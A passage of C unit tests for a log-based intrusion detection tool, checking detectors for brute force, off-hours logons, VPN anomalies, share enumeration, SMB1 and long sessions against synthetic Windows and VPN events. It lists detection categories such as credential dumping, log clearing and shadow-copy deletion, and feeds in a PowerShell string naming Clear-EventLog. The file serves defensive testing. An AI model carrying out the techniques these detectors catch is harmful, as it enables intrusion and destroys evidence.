        ks_detect_end_file(d);
        if (!cases[i].detector) {
            if (g.n) fprintf(stderr, "%s: %s\n", cases[i].cmd, g.f[0].detector->id);
            CHECK_INT(g.n, 0);
        } else {
            if (g.n != 1) fprintf(stderr, "%s: %d findings\n", cases[i].cmd, g.n);
            CHECK_INT(g.n, 1);
            if (g.n) CHECK_STR(g.f[0].detector->id, cases[i].detector);
        }
        ks_detect_close(&d);
    }
    /* Defender's own events, and a module manifest that only names Clear-EventLog */
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Defender.evtx");
    evb b;
    ks_detect_feed(d, mk(&b, "Microsoft-Windows-Windows Defender", 5001, T0, 1));
    ks_event *e = mk(&b, "Microsoft-Windows-PowerShell", 4104, T0, 2);
    field(&b, "ScriptBlockText", "@{ CmdletsToExport=@('Clear-EventLog','Remove-EventLog') }");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(g.n, 1);
    if (g.n) CHECK_STR(g.f[0].detail, "Defender real-time protection disabled (5001)");
    ks_detect_close(&d);
}

/* The placeholders of a template ({count}, {user}, ...), sorted and joined. */
static int by_str(const void *a, const void *b)
{
    return strcmp(*(const char *const *)a, *(const char *const *)b);
}

static void placeholders(const char *s, char *out, size_t cap)
{
    char names[16][24];
    const char *v[16];
    int n = 0;
    for (const char *p = s; p && *p && n < 16; p++) {
        if (*p != '{') continue;
        const char *e = strchr(p, '}');
        if (!e || e - p >= 23) break;
        memcpy(names[n], p, (size_t)(e - p + 1));
        names[n][e - p + 1] = 0;
        v[n] = names[n];
        n++;
        p = e;
    }
    qsort(v, (size_t)n, sizeof v[0], by_str);
    out[0] = 0;
    for (int i = 0; i < n; i++)
        if (!i || strcmp(v[i], v[i - 1])) strncat(out, v[i], cap - strlen(out) - 1);
}

static void test_table(void)
{
    CHECK(ks_detector_count() >= 11);
    static const char *const CATEGORIES[] = {"brute_force",
                                             "password_spray",
                                             "logon_after_failures",
                                             "rdp_logon",
                                             "rdp_tunnel",
                                             "network_logon",
                                             "off_duty_logon",
                                             "long_session",
                                             "vpn_foreign",
                                             "vpn_new_source",
                                             "share_enumeration",
                                             "lateral_movement",
                                             "credential_dumping",
                                             "log_cleared",
                                             "eventlog_tampering",
                                             "service_install",
                                             "scheduled_task",
                                             "account_manipulation",
                                             "shadow_copy_deletion",
                                             "inhibit_recovery",
                                             "remote_access_tool",
                                             "attacker_tool",
                                             "defense_impairment",
                                             "anti_forensics",
                                             "rdp_config_change",
                                             "ransomware_execution",
                                             "smb1_use",
                                             "usb_storage",
                                             "policy_violation",
                                             "sigma"};
    const char *ids[64];
    size_t n = ks_detector_count();
    for (size_t i = 0; i < n && i < 64; i++) {
        const ks_detector_info *di = ks_detector_at(i);
        ids[i] = di->id;
        CHECK(ks_detector_find(di->id) == di);
        CHECK(di->title[0] && di->title[1] && di->attack && di->attack[0] == 'T');
        CHECK(di->categories[0] != NULL);
        for (int c = 0; c < KS_DETECT_MAX_CATEGORIES && di->categories[c]; c++) {
            int known = 0;
            for (size_t k = 0; k < sizeof CATEGORIES / sizeof CATEGORIES[0]; k++)
                known |= !strcmp(di->categories[c], CATEGORIES[k]);
            if (!known) fprintf(stderr, "%s: unknown category %s\n", di->id, di->categories[c]);
            CHECK(known);
        }
        CHECK(di->explain[0][0] && di->explain[0][1]);
        for (int v = 0; v < KS_DETECT_MAX_VARIANTS; v++) {
            CHECK((di->explain[v][0] == NULL) == (di->explain[v][1] == NULL));
            char en[256], ja[256];
            placeholders(di->explain[v][0], en, sizeof en);
            placeholders(di->explain[v][1], ja, sizeof ja);
            if (strcmp(en, ja)) fprintf(stderr, "%s/%d: %s vs %s\n", di->id, v, en, ja);
            CHECK_STR(en, ja);
        }
    }
    qsort(ids, n, sizeof ids[0], by_str);
    for (size_t i = 1; i < n; i++) CHECK(strcmp(ids[i - 1], ids[i]) != 0);
    /* overrides naming what does not exist are refused */
    ks_detect *d = NULL;
    ks_diag diag = {0};
    ks_detect_override bad1[] = {{"no_such", "count", 1}};
    ks_detect_opts o = {bad1, 1, "UTC", NULL, NULL, NULL, NULL, NULL};
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_ERR_ARG);
    CHECK(strstr(diag.what, "no_such") != NULL);
    ks_detect_override bad2[] = {{"brute_force", "cuont", 1}};
    o.overrides = bad2;
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_ERR_ARG);
    CHECK(d == NULL);
    /* a detector turned off */
    ks_detect_override off[] = {{"brute_force", "enabled", 0}};
    got g;
    d = open_engine(&g, off, 1, NULL);
    CHECK_INT(ks_detect_param(d, "brute_force", "enabled"), 0);
    ks_detect_begin_file(d, "x");
    burst(d, 20, T0, SEC, "a", "203.0.113.1");
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 0);
    CHECK_INT(count_of(&g, "logon_after_failures"), 0);
    ks_detect_close(&d);
    ks_detect_close(&d); /* NULL is fine */
    CHECK_STR(ks_level_name(KS_LEVEL_CRITICAL), "critical");
}

static void test_japanese(void)
{
    ks_lang_set("ja");
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    burst(d, 8, T0, SEC, "administrator", "203.0.113.5");
    ks_detect_end_file(d);
    if (g.n == 1)
        CHECK_STR(g.f[0].explanation,
                  "203.0.113.5 から RDS01.hosp.local へのログオン失敗が 1 分間に 8 "
                  "回 (アカウント 1 個: administrator)");
    CHECK_INT(g.n, 1);
    ks_detect_close(&d);
    ks_lang_set("en");
}

/* `kensa simulate`'s day: the brute force and the logon after it are found, with
 * the attacker's address, the account and the entry host the simulation reports. */
/* `kensa hunt --format jsonl` on the simulated day: one object per finding, the
 * brute force first with its categories array and evidence. */
static void test_cli(const char *dir, const ks_sim_result *res, const char *user)
{
    char cmd[8192];
    snprintf(cmd, sizeof cmd, "%s/kensa --lang en hunt -q --format jsonl --tz Asia/Tokyo %s",
             KS_BINARY_DIR, dir);
    FILE *p = popen(cmd, "r");
    if (!p) {
        CHECK(0);
        return;
    }
    char line[16384];
    int n = 0, brute = 0, door = 0;
    char want[256];
    while (fgets(line, sizeof line, p)) {
        n++;
        CHECK(!strncmp(line, "{\"detector\":", 12));
        CHECK(strstr(line, "\"categories\":[\"") != NULL);
        CHECK(strstr(line, "\"evidence\":[{\"file\":\"") != NULL);
        if (strstr(line, "\"detector\":\"brute_force\",\"categories\":[\"brute_force\"]")) {
            brute++;
            snprintf(want, sizeof want, "\"src_ip\":\"%s\"", res->attacker_ip);
            CHECK(strstr(line, want) != NULL);
            snprintf(want, sizeof want, "\"count\":%u", res->failed_logons);
            CHECK(strstr(line, want) != NULL);
        }
        if (strstr(line, "\"categories\":[\"logon_after_failures\",\"brute_force\"]")) {
            door++;
            snprintf(want, sizeof want, "\"user\":\"%s\"", user);
            CHECK(strstr(line, want) != NULL);
            CHECK(strstr(line, "\"severity\":\"critical\"") != NULL);
        }
    }
    CHECK_INT(pclose(p), 0);
    CHECK_INT(n, 7);
    CHECK_INT(brute, 1);
    CHECK_INT(door, 1);
}

static void simulate_one(uint64_t seed)
{
    char dir[] = "/tmp/ks_test_detect_XXXXXX";
    if (!mkdtemp(dir)) {
        CHECK(0);
        return;
    }
    ks_sim_result res;
    ks_diag diag = {0};
    CHECK_INT(ks_sim_write(dir, seed, &res, &diag), KS_OK);
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, "Asia/Tokyo");
    for (unsigned i = 0; i < res.nfiles; i++) {
        ks_source *s = NULL;
        CHECK_INT(ks_source_open(&s, res.files[i].path, NULL, &diag), KS_OK);
        if (!s) continue;
        ks_detect_begin_file(d, res.files[i].path);
        const ks_event *ev;
        while (ks_source_next(s, &ev) == KS_OK && ev) ks_detect_feed(d, ev);
        ks_detect_end_file(d);
        ks_source_close(&s);
    }
    const char *user = strchr(res.account, '\\') ? strchr(res.account, '\\') + 1 : res.account;
    CHECK_INT(count_of(&g, "brute_force"), 1);
    const ks_finding *f = first_of(&g, "brute_force");
    if (f) {
        CHECK_STR(f->src_ip, res.attacker_ip);
        CHECK_STR(f->host, res.entry_host);
        CHECK_INT(f->count, res.failed_logons);
        CHECK(strstr(f->user, user) != NULL);
    }
    CHECK_INT(count_of(&g, "logon_after_failures"), 1);
    f = first_of(&g, "logon_after_failures");
    if (f) {
        CHECK_STR(f->src_ip, res.attacker_ip);
        CHECK_STR(f->user, user);
        CHECK_STR(f->host, res.entry_host);
        CHECK_INT(f->last_ns, res.intrusion_ns);
        CHECK_INT(f->count, res.failed_logons + 1);
    }
    /* the rest of the story: the attacker's RDP logon (and the vendor's daytime
     * one, both from outside), the vendor account at night on every server, the
     * implant (a service, or PsExec), the cleared log */
    CHECK_INT(count_of(&g, "rdp_logon"), 2);
    CHECK_INT(count_of(&g, "off_duty_logon"), 1);
    f = first_of(&g, "off_duty_logon");
    if (f) {
        CHECK_STR(f->user, user);
        CHECK_INT(f->count, 1 + res.lateral_logons);
        CHECK_INT(f->first_ns, res.intrusion_ns);
    }
    CHECK_INT(count_of(&g, "log_cleared"), 1);
    CHECK_INT(count_of(&g, "service_install") + count_of(&g, "remote_access_tool"), 1);
    CHECK_INT(count_of(&g, "password_spray"), 0);
    CHECK_INT(count_of(&g, "eventlog_tampering"), 0);
    CHECK_INT(g.n, 7);
    ks_detect_close(&d);
    if (seed == 1) test_cli(dir, &res, user);
    for (unsigned i = 0; i < res.nfiles; i++) remove(res.files[i].path);
    remove(dir);
}

/* `kensa simulate`'s day, several seeds: the brute force and the logon after it
 * are found, with the attacker's address, the account and the entry host the
 * simulation reports. */
static void test_simulate(void)
{
    for (uint64_t seed = 1; seed <= 6; seed++) simulate_one(seed);
}

static void test_off_duty(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, "Asia/Tokyo");
    ks_detect_begin_file(d, "Security.evtx");
    evb b;
    /* 09:00 and 14:00 JST: the account's hours */
    ks_detect_feed(d, logon(&b, T0, 1, "vendor.emr", "10.10.1.50", 3));
    ks_detect_feed(d, logon(&b, T0 + 5 * 60 * MIN, 2, "vendor.emr", "10.10.1.50", 3));
    /* 03:00 JST (18:00 UTC) on two servers: one finding */
    ks_detect_feed(d, logon(&b, T0 + 18 * 60 * MIN, 3, "vendor.emr", "10.10.1.50", 3));
    ks_event *e = logon(&b, T0 + 18 * 60 * MIN + 10 * MIN, 4, "vendor.emr", "10.10.1.50", 3);
    e->host = S("FS01");
    ks_detect_feed(d, e);
    /* a backup account seen for the first time at night: no history, nothing */
    ks_detect_feed(d, logon(&b, T0 + 17 * 60 * MIN, 5, "svc-backup", "10.10.1.40", 3));
    ks_detect_feed(d, logon(&b, T0 + 17 * 60 * MIN + MIN, 6, "svc-backup", "10.10.1.40", 3));
    /* machine accounts and interactive logons are not looked at */
    for (int i = 0; i < 3; i++)
        ks_detect_feed(d, logon(&b, T0 + i * 9 * 60 * MIN, 7, "FS01$", "10.10.1.20", 3));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "off_duty_logon"), 1);
    const ks_finding *f = first_of(&g, "off_duty_logon");
    if (f) {
        CHECK_STR(f->user, "vendor.emr");
        CHECK_INT(f->count, 2);
        CHECK_STR(f->detail, "RDS01.hosp.local, FS01");
        CHECK_STR(f->categories[1], "network_logon");
    }
    ks_detect_close(&d);
}

static ks_event *vpn_ok(evb *b, int64_t t, uint64_t rec, const char *user, const char *ip)
{
    ks_event *e = mk(b, "fortigate", 0, t, rec);
    e->channel = S("syslog");
    e->host = S("FGT-HOSP");
    e->sem.action = S(KS_ACTION_VPN_LOGIN);
    e->sem.outcome = KS_OUTCOME_SUCCESS;
    e->sem.user = S(user);
    e->sem.src_ip = S(ip);
    return e;
}

static void test_vpn_new_source(void)
{
    got g;
    evb b;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "vpn.log");
    /* the first login teaches; the same address again is known */
    ks_detect_feed(d, vpn_ok(&b, T0, 1, "nurse1", "198.51.100.7"));
    ks_detect_feed(d, vpn_ok(&b, T0 + MIN, 2, "nurse1", "198.51.100.7"));
    ks_detect_feed(d, vpn_ok(&b, T0 + 2 * MIN, 3, "NURSE1", "198.51.100.7"));
    CHECK_INT(count_of(&g, "vpn_new_source"), 0);
    /* another account's address is new for nurse1 */
    ks_detect_feed(d, vpn_ok(&b, T0 + 3 * MIN, 4, "doctor2", "203.0.113.9"));
    ks_detect_feed(d, vpn_ok(&b, T0 + 4 * MIN, 5, "nurse1", "203.0.113.9"));
    CHECK_INT(count_of(&g, "vpn_new_source"), 1);
    const ks_finding *f = first_of(&g, "vpn_new_source");
    if (f) {
        CHECK_STR(f->user, "nurse1");
        CHECK_STR(f->src_ip, "203.0.113.9");
        CHECK_STR(f->host, "FGT-HOSP");
        CHECK_STR(f->detail, "1");
        CHECK_INT(f->count, 1);
        CHECK_INT(f->evidence[0].record_id, 5);
        CHECK(strstr(f->explanation, "not seen for this account") != NULL);
    }
    /* known from then on; failures and logouts teach nothing */
    ks_detect_feed(d, vpn_ok(&b, T0 + 5 * MIN, 6, "nurse1", "203.0.113.9"));
    ks_event *e = vpn_ok(&b, T0 + 6 * MIN, 7, "nurse1", "192.0.2.1");
    e->sem.outcome = KS_OUTCOME_FAILURE;
    ks_detect_feed(d, e);
    e = vpn_ok(&b, T0 + 7 * MIN, 8, "nurse1", "192.0.2.1");
    e->sem.action = S(KS_ACTION_VPN_LOGOUT);
    ks_detect_feed(d, e);
    CHECK_INT(count_of(&g, "vpn_new_source"), 1);
    ks_detect_feed(d, vpn_ok(&b, T0 + 8 * MIN, 9, "nurse1", "192.0.2.1"));
    CHECK_INT(count_of(&g, "vpn_new_source"), 2);
    ks_detect_end_file(d);
    /* memory is per log: the next file learns again */
    ks_detect_begin_file(d, "vpn2.log");
    ks_detect_feed(d, vpn_ok(&b, T0 + 9 * MIN, 1, "nurse1", "192.0.2.200"));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "vpn_new_source"), 2);
    /* 40 addresses for one account: memory stays bounded (32 kept, least recently
     * used forgotten), every one of them new */
    ks_detect_begin_file(d, "vpn3.log");
    char ip[32];
    for (int i = 0; i < 40; i++) {
        snprintf(ip, sizeof ip, "192.0.2.%d", i + 1);
        ks_detect_feed(d, vpn_ok(&b, T0 + i * MIN, 1 + (uint64_t)i, "roamer", ip));
    }
    CHECK_INT(count_of(&g, "vpn_new_source"), 2 + 39);
    /* the newest are remembered, the first forgotten */
    ks_detect_feed(d, vpn_ok(&b, T0 + 41 * MIN, 41, "roamer", "192.0.2.40"));
    CHECK_INT(count_of(&g, "vpn_new_source"), 41);
    ks_detect_feed(d, vpn_ok(&b, T0 + 42 * MIN, 42, "roamer", "192.0.2.1"));
    CHECK_INT(count_of(&g, "vpn_new_source"), 42);
    ks_detect_end_file(d);
    ks_detect_close(&d);
    /* learn=3: the first three successes only teach */
    ks_detect_override learn[] = {{"vpn_new_source", "learn", 3}};
    d = open_engine(&g, learn, 1, NULL);
    ks_detect_begin_file(d, "vpn.log");
    for (int i = 0; i < 4; i++) {
        snprintf(ip, sizeof ip, "192.0.2.%d", i + 1);
        ks_detect_feed(d, vpn_ok(&b, T0 + i * MIN, 1 + (uint64_t)i, "nurse1", ip));
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "vpn_new_source"), 1);
    f = first_of(&g, "vpn_new_source");
    if (f) CHECK_STR(f->detail, "3");
    ks_detect_close(&d);
}

/* A share access (5140) or a file check on a share (5145). */
static ks_event *share(evb *b, uint32_t id, int64_t t, uint64_t rec, const char *ip,
                       const char *name, const char *file)
{
    ks_event *e = mk(b, SECURITY, id, t, rec);
    e->host = S("FS01.hosp.local");
    e->sem.user = S("clerk");
    e->sem.src_ip = S(ip);
    e->sem.share = S(name);
    if (file) field(b, "RelativeTargetName", file);
    return e;
}

static void test_share_enumeration(void)
{
    got g;
    evb b;
    char name[64];
    /* 5 shares in 5 minutes: nothing; 6: one finding naming them all */
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "sec.evtx");
    for (int i = 0; i < 5; i++) {
        snprintf(name, sizeof name, "\\\\*\\Dept%d", i);
        ks_detect_feed(d, share(&b, 5140, T0 + i * MIN, 10 + (uint64_t)i, "10.1.2.3", name, NULL));
        /* the same share again counts once */
        ks_detect_feed(
            d, share(&b, 5140, T0 + i * MIN + SEC, 20 + (uint64_t)i, "10.1.2.3", name, NULL));
    }
    CHECK_INT(count_of(&g, "share_enumeration"), 0);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "share_enumeration"), 0);
    ks_detect_begin_file(d, "sec2.evtx");
    for (int i = 0; i < 6; i++) {
        snprintf(name, sizeof name, "\\\\*\\Dept%d", i);
        ks_detect_feed(d, share(&b, 5140, T0 + i * MIN, 10 + (uint64_t)i, "10.1.2.3", name, NULL));
    }
    /* later accesses join until a quiet window */
    ks_detect_feed(d, share(&b, 5140, T0 + 8 * MIN, 30, "10.1.2.3", "\\\\*\\Radiology", NULL));
    ks_detect_feed(d, share(&b, 5140, T0 + 20 * MIN, 31, "10.1.2.3", "\\\\*\\Dept0", NULL));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "share_enumeration"), 1);
    const ks_finding *f = first_of(&g, "share_enumeration");
    if (f) {
        CHECK_INT(f->variant, 0);
        CHECK_INT(f->count, 7);
        CHECK_STR(f->src_ip, "10.1.2.3");
        CHECK_STR(f->host, "FS01.hosp.local");
        CHECK_STR(f->user, "clerk");
        CHECK_STR(f->detail, "Dept0, Dept1, Dept2, Dept3, Dept4, Dept5, Radiology");
        CHECK_INT(f->first_ns, T0);
        CHECK_INT(f->last_ns, T0 + 8 * MIN);
    }
    ks_detect_close(&d);
    /* share names with a trailing backslash, and one with no name at all: named
     * without it, the nameless one counted but not named (this once looped forever) */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "sec.evtx");
    for (int i = 0; i < 6; i++) {
        snprintf(name, sizeof name, i == 5 ? "\\\\*\\" : "\\\\*\\Ward%d\\", i);
        ks_detect_feed(d, share(&b, 5140, T0 + i * MIN, 10 + (uint64_t)i, "10.1.2.3", name, NULL));
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "share_enumeration"), 1);
    f = first_of(&g, "share_enumeration");
    if (f) {
        CHECK_INT(f->count, 6);
        CHECK_STR(f->detail, "Ward0, Ward1, Ward2, Ward3, Ward4");
    }
    ks_detect_close(&d);
    /* 6 shares over more than 5 minutes: nothing */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "sec.evtx");
    for (int i = 0; i < 6; i++) {
        snprintf(name, sizeof name, "\\\\*\\Dept%d", i);
        ks_detect_feed(
            d, share(&b, 5140, T0 + i * 61 * SEC, 10 + (uint64_t)i, "10.1.2.3", name, NULL));
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "share_enumeration"), 0);
    /* files: 199 distinct files in a minute: nothing; the 200th: one finding; pipes
     * under IPC$ and group policy under SYSVOL never count */
    ks_detect_begin_file(d, "sec.evtx");
    char file[64];
    for (int i = 0; i < 300; i++) {
        snprintf(file, sizeof file, "Policies\\{%d}\\gpt.ini", i);
        ks_detect_feed(d, share(&b, 5145, T0 + (int64_t)i * 100000000, 1 + (uint64_t)i, "10.1.2.4",
                                "\\\\*\\SYSVOL", file));
        ks_detect_feed(d, share(&b, 5145, T0 + (int64_t)i * 100000000, 1 + (uint64_t)i, "10.1.2.4",
                                "\\\\*\\IPC$", "srvsvc"));
    }
    for (int i = 0; i < 199; i++) {
        snprintf(file, sizeof file, "Ward3\\patient%d.xlsx", i);
        ks_detect_feed(d, share(&b, 5145, T0 + MIN + (int64_t)i * 100000000, 1000 + (uint64_t)i,
                                "10.1.2.5", "\\\\*\\Data", file));
        ks_detect_feed(d, share(&b, 5145, T0 + MIN + (int64_t)i * 100000000, 2000 + (uint64_t)i,
                                "10.1.2.5", "\\\\*\\Data", file));
    }
    CHECK_INT(count_of(&g, "share_enumeration"), 0);
    ks_detect_feed(d,
                   share(&b, 5145, T0 + 2 * MIN, 3000, "10.1.2.5", "\\\\*\\Data", "Ward3\\x.docx"));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "share_enumeration"), 1);
    f = first_of(&g, "share_enumeration");
    if (f) {
        CHECK_INT(f->variant, 1);
        CHECK_INT(f->count, 200);
        CHECK_STR(f->src_ip, "10.1.2.5");
        CHECK_STR(f->detail, "Data");
        CHECK_INT(f->nevidence, 16);
    }
    ks_detect_close(&d);
}

static void test_smb1(void)
{
    got g;
    evb b;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "smb.evtx");
    const char *clients[] = {"10.9.0.21", "10.9.0.22", "10.9.0.21"};
    for (int i = 0; i < 3; i++) {
        ks_event *e =
            mk(&b, "Microsoft-Windows-SMBServer", 3000, T0 + i * 60 * MIN, 1 + (uint64_t)i);
        e->channel = S("Microsoft-Windows-SMBServer/Audit");
        e->host = S("PACS01");
        field(&b, "ClientName", clients[i]);
        ks_detect_feed(d, e);
    }
    /* another provider's 3000 is something else */
    ks_detect_feed(d, mk(&b, "Microsoft-Windows-Other", 3000, T0, 9));
    /* more than a day later: a finding of its own */
    ks_event *e = mk(&b, "Microsoft-Windows-SMBServer", 3000, T0 + 50 * 60 * MIN, 10);
    e->host = S("PACS01");
    e->sem.src_ip = S("10.9.0.23");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "smb1_use"), 2);
    const ks_finding *f = first_of(&g, "smb1_use");
    if (f) {
        CHECK_STR(f->host, "PACS01");
        CHECK_INT(f->count, 3);
        CHECK_STR(f->detail, "10.9.0.21, 10.9.0.22");
        CHECK_INT(f->severity, KS_LEVEL_MEDIUM);
        CHECK(strstr(f->explanation, "SMB1") != NULL);
    }
    if (g.n >= 2) {
        CHECK_STR(g.f[1].detail, "10.9.0.23");
        CHECK_STR(g.f[1].src_ip, "10.9.0.23");
    }
    ks_detect_close(&d);
}

static ks_event *sess(evb *b, uint32_t id, int64_t t, uint64_t rec, const char *host,
                      const char *user, const char *logon_id, int type)
{
    ks_event *e = mk(b, SECURITY, id, t, rec);
    e->host = S(host);
    e->sem.user = S(user);
    e->sem.session = S(logon_id);
    e->sem.src_ip = S(id == 4624 ? "10.1.5.9" : "");
    e->sem.logon_type = type;
    return e;
}

static void test_long_session(void)
{
    got g;
    evb b;
    char id[32];
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "fs.evtx");
    /* 20 short network logons make FS01 a server */
    for (int i = 0; i < 20; i++) {
        snprintf(id, sizeof id, "0x%x", 0x1000 + i);
        ks_detect_feed(d, sess(&b, 4624, T0 + i * MIN, 1 + (uint64_t)i, "FS01", "clerk", id, 3));
        ks_detect_feed(
            d, sess(&b, 4634, T0 + i * MIN + 5 * SEC, 100 + (uint64_t)i, "FS01", "clerk", id, 3));
    }
    /* 11 h 59 min: nothing; 12 h: reported at the logoff; machine accounts and
     * interactive logons are not looked at */
    ks_detect_feed(d, sess(&b, 4624, T0 + 30 * MIN, 200, "FS01", "nurse", "0x2001", 3));
    ks_detect_feed(d, sess(&b, 4624, T0 + 30 * MIN, 201, "FS01", "intruder", "0x2002", 3));
    ks_detect_feed(d, sess(&b, 4624, T0 + 30 * MIN, 202, "FS01", "WS12$", "0x2003", 3));
    ks_detect_feed(d, sess(&b, 4624, T0 + 30 * MIN, 203, "FS01", "admin", "0x2004", 2));
    ks_detect_feed(d, sess(&b, 4624, T0 + 30 * MIN, 204, "FS01", "backup", "0x2005", 3));
    ks_detect_feed(d, sess(&b, 4634, T0 + 30 * MIN + 719 * MIN, 300, "FS01", "nurse", "0x2001", 3));
    ks_detect_feed(d,
                   sess(&b, 4634, T0 + 30 * MIN + 720 * MIN, 301, "FS01", "intruder", "0x2002", 3));
    ks_detect_feed(d, sess(&b, 4634, T0 + 30 * MIN + 900 * MIN, 302, "FS01", "WS12$", "0x2003", 3));
    ks_detect_feed(d, sess(&b, 4647, T0 + 30 * MIN + 900 * MIN, 303, "FS01", "admin", "0x2004", 2));
    /* a second logoff of the same id is not a second session */
    ks_detect_feed(d,
                   sess(&b, 4634, T0 + 30 * MIN + 901 * MIN, 304, "FS01", "intruder", "0x2002", 3));
    /* backup's logon (0x2005) never ends: the log goes on 15 h after it */
    ks_detect_feed(d, sess(&b, 4624, T0 + 30 * MIN + 930 * MIN, 305, "FS01", "clerk", "0x3000", 3));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "long_session"), 2);
    for (int i = 0; i < g.n && i < 64; i++) {
        const ks_finding *f = &g.f[i];
        CHECK_STR(f->detector->id, "long_session");
        CHECK_STR(f->host, "FS01");
        CHECK_STR(f->src_ip, "10.1.5.9");
        if (f->variant == 0) {
            CHECK_STR(f->user, "intruder");
            CHECK_STR(f->detail, "intruder 12h");
            CHECK_INT(f->count, 2);
            CHECK_INT(f->first_ns, T0 + 30 * MIN);
            CHECK_INT(f->last_ns, T0 + 750 * MIN);
        } else {
            CHECK_INT(f->variant, 1);
            CHECK_STR(f->user, "backup");
            CHECK_STR(f->detail, "backup 15h");
            CHECK_INT(f->count, 1);
            CHECK_INT(f->evidence[0].record_id, 204);
        }
    }
    ks_detect_close(&d);
    /* the same on a host with 19 logons: not a server, nothing */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "ws.evtx");
    for (int i = 0; i < 18; i++) {
        snprintf(id, sizeof id, "0x%x", 0x1000 + i);
        ks_detect_feed(d, sess(&b, 4624, T0 + i * MIN, 1 + (uint64_t)i, "WS01", "clerk", id, 10));
    }
    ks_detect_feed(d, sess(&b, 4624, T0 + 30 * MIN, 201, "WS01", "intruder", "0x2002", 10));
    ks_detect_feed(
        d, sess(&b, 4634, T0 + 30 * MIN + 800 * MIN, 301, "WS01", "intruder", "0x2002", 10));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "long_session"), 0);
    ks_detect_close(&d);
    /* ... unless the site file says WS01 is a backup server; its home country is
     * used by vpn_foreign */
    static const char SITE[] = "home_country: DE\nhosts:\n  - name: WS01\n    role: "
                               "backup_server\n";
    ks_site *site = NULL;
    ks_diag diag = {0};
    CHECK_INT(ks_site_load_mem(&site, SITE, sizeof SITE - 1, "site.yaml", &diag), KS_OK);
    memset(&g, 0, sizeof g);
    ks_detect_opts o = {NULL, 0, "UTC", on_finding, &g, NULL, NULL, site};
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_OK);
    ks_detect_begin_file(d, "ws.evtx");
    ks_detect_feed(d,
                   sess(&b, 4624, T0 + 30 * MIN, 201, "WS01.hosp.local", "intruder", "0x2002", 10));
    ks_detect_feed(d, sess(&b, 4634, T0 + 30 * MIN + 800 * MIN, 301, "WS01.hosp.local", "intruder",
                           "0x2002", 10));
    ks_event *e = vpn_ok(&b, T0 + 900 * MIN, 400, "nurse1", "198.51.100.7");
    e->sem.country = S("JP");
    ks_detect_feed(d, e);
    e = vpn_ok(&b, T0 + 901 * MIN, 401, "nurse1", "198.51.100.7");
    e->sem.country = S("DE");
    ks_detect_feed(d, e);
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "long_session"), 1);
    const ks_finding *f = first_of(&g, "long_session");
    if (f) CHECK_STR(f->detail, "intruder 13h");
    CHECK_INT(count_of(&g, "vpn_foreign"), 1);
    f = first_of(&g, "vpn_foreign");
    if (f) CHECK_STR(f->detail, "JP 198.51.100.7");
    ks_site_free(&site);
}

static void test_vpn_foreign(void)
{
    got g;
    evb b;
    /* the country the VPN logged itself: no database needed */
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "vpn.log");
    ks_event *e = vpn_ok(&b, T0, 1, "nurse1", "198.51.100.7");
    e->sem.country = S("jp");
    ks_detect_feed(d, e);
    e = vpn_ok(&b, T0 + MIN, 2, "nurse1", "198.51.100.8");
    e->sem.country = S("US");
    ks_detect_feed(d, e);
    e = vpn_ok(&b, T0 + 2 * MIN, 3, "nurse1", "198.51.100.9");
    e->sem.country = S("RU");
    ks_detect_feed(d, e);
    /* a failure from abroad is brute_force's business; internal never foreign */
    e = vpn_ok(&b, T0 + 3 * MIN, 4, "nurse1", "198.51.100.10");
    e->sem.country = S("CN");
    e->sem.outcome = KS_OUTCOME_FAILURE;
    ks_detect_feed(d, e);
    e = vpn_ok(&b, T0 + 4 * MIN, 5, "nurse1", "10.0.0.5");
    e->sem.country = S("CN");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "vpn_foreign"), 1);
    const ks_finding *f = first_of(&g, "vpn_foreign");
    if (f) {
        CHECK_STR(f->user, "nurse1");
        CHECK_INT(f->count, 2);
        CHECK_STR(f->detail, "US 198.51.100.8, RU 198.51.100.9");
        CHECK_STR(f->src_ip, "");
        CHECK_INT(f->severity, KS_LEVEL_HIGH);
        CHECK_INT(f->evidence[1].record_id, 3);
    }
    ks_detect_close(&d);
    /* home country US: the Japanese login is foreign */
    memset(&g, 0, sizeof g);
    ks_detect_opts o = {NULL, 0, "UTC", on_finding, &g, "us", NULL, NULL};
    ks_diag diag = {0};
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_OK);
    ks_detect_begin_file(d, "vpn.log");
    e = vpn_ok(&b, T0, 1, "nurse1", "198.51.100.7");
    e->sem.country = S("JP");
    ks_detect_feed(d, e);
    e = vpn_ok(&b, T0, 2, "nurse1", "198.51.100.8");
    e->sem.country = S("US");
    ks_detect_feed(d, e);
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "vpn_foreign"), 1);
    f = first_of(&g, "vpn_foreign");
